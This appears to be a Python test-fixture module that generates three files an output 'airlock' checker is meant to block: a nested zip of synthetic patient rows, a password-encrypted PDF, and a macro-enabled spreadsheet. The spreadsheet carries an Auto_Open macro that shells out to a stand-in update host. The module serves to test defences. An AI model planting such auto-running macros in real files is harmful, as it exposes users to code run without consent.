"""An archive, an encrypted file and a file with macros that must be stopped."""

import io
import zipfile

from tests.airlock.outputs.case import Shelf

from .kit import again, md_table, part, pdf, xlsx, zipped


def write(shelf: Shelf) -> None:
    _zip_in_zip(shelf)
    _encrypted(shelf)
    _macro(shelf)


def _zip_in_zip(shelf: Shelf) -> None:
    path = shelf.unsafe(
        "data/livrables_lot2.zip", "rows of persons in an archive in the archive", "annexes.zip > source/patients.csv", "Livrables du lot 2 : tableaux et annexes",
        "1 802 adultes hospitalisés pour pancréatite aiguë",
    )  # fmt: skip
    draw = shelf.random("pancreatite")
    inner = io.BytesIO()
    rows = "\n".join(
        f"{i};{draw.choice('HF')};{draw.randint(19, 88)};{draw.choice(['biliaire', 'alcool', 'autre'])};{draw.randint(2, 40)};{draw.randint(0, 1)}"
        for i in range(1, 150)
    )
    with zipfile.ZipFile(inner, "w") as file:
        for name, content in (
            ("definitions.md", "Pancréatite : K85, 1 séjour.\n"),
            ("source/patients.csv", "num;sexe;age;cause;duree;rea\n" + rows),
        ):
            file.writestr(zipfile.ZipInfo(name), content)
    table = md_table(
        [["Cause", "Patients", "Réanimation"], ["Biliaire", 811, 97], ["Alcool", 602, 101], ["Autre", 389, 44]]
    )
    zipped(
        path,
        {
            "LISEZMOI.md": b"# Lot 2\n\nTableaux en Markdown, annexes en archive.\n",
            "tableaux/causes.md": table.encode(),
            "annexes.zip": inner.getvalue(),
        },
    )


def _encrypted(shelf: Shelf) -> None:
    path = shelf.unsafe(
        "data/final_tables_protected.pdf", "an encrypted file cannot be read", "the whole file", "Final tables of the stroke study, protected by a password as the sponsor asked",
        "3,900 adults with stroke",
    )  # fmt: skip
    pdf(path, ["# Final tables", [["Group", "n", "mRS 0-2"], ["A", 1950, 1011], ["B", 1950, 1077]]])
    from pypdf import PdfWriter

    writer = PdfWriter(clone_from=str(path))
    writer.encrypt("sponsor-2024", algorithm="RC4-128")
    writer.write(str(path))


def _macro(shelf: Shelf) -> None:
    path = shelf.unsafe(
        "data/calculateur_dose.xlsm", "macros", "xl/vbaProject.bin", "Calculateur de dose d'après le modèle publié",
        "Modèle appris sur 1 450 adultes sous vancomycine",
    )  # fmt: skip
    xlsx(
        path,
        {
            "Dose": [
                ["Paramètre", "Coefficient", "Erreur type"],
                ["Clairance, L/h", 4.12, 0.11],
                ["DFG, par 10 mL/min", 0.31, 0.02],
                ["Poids, par 10 kg", 0.18, 0.03],
            ]
        },
    )
    kinds = (
        part(path, "[Content_Types].xml")
        .replace("spreadsheetml.sheet.main+xml", "x")
        .replace(
            "application/vnd.openxmlformats-officedocument.x", "application/vnd.ms-excel.sheet.macroEnabled.main+xml"
        )
    )
    kinds = kinds.replace(
        "<Default ", '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/><Default ', 1
    )
    links = part(path, "xl/_rels/workbook.xml.rels").replace(
        "</Relationships>",
        '<Relationship Id="rId77" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="vbaProject.bin"/></Relationships>',
    )
    module = 'Attribute VB_Name = "Module1"\r\nSub Auto_Open()\r\n  Shell "cmd /c start http://update.example/d"\r\nEnd Sub\r\n'
    again(
        path,
        {
            "[Content_Types].xml": kinds.encode(),
            "xl/_rels/workbook.xml.rels": links.encode(),
            "xl/vbaProject.bin": bytes.fromhex("d0cf11e0a1b11ae1") + bytes(504) + module.encode(),
        },
    )
